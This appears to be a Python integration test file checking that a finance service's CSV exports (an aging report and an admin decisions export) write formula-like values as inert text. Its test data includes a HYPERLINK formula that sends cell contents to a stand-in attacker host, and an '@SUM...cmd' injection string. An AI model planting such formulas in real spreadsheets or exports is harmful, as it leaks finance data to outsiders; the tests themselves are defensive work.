"""CSV exports a finance team opens in Excel never carry a live formula."""

from __future__ import annotations

import csv
import io
from typing import Any

from flask import Flask

from policy_service.container import Services
from tests.integration.test_admin_support import login, make_users

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_the_aging_report_csv_writes_a_formula_like_name_as_text(api: Any) -> None:
    api.customer("C-1", name=FORMULA)
    invoice = {"invoice_id": "I-1", "customer_id": "C-1", "amount": "250.00",
               "currency": "CNY", "issue_date": "2026-01-01", "due_date": "2026-02-01"}
    assert api.call("POST", "/v1/invoices", "order_system", json=invoice).status_code == 201
    response = api.client.get("/v1/reports/aging?as_of=2026-04-15",
                              headers={**api.keys["risk_manager"], "Accept": "text/csv"})
    header, row = _rows(response.get_data(as_text=True))
    assert row[header.index("name")] == "'" + FORMULA
    assert row[header.index("customer_id")] == "C-1"
    assert "250.00" in row


def test_the_decisions_export_writes_a_formula_like_order_id_as_text(
        app: Flask, services: Services, api: Any) -> None:
    api.customer("C-1", credit_limit="1000.00")
    assert api.check("@SUM(1+1)*cmd", "100.00").status_code in (200, 201)
    users = make_users(services)
    exported = login(app, users["auditor"]).get("/admin/decisions/export/csv/")
    header, row = _rows(exported.get_data(as_text=True))
    assert row[header.index("Order")] == "'@SUM(1+1)*cmd"
    assert row[header.index("Amount")] == "100.00"
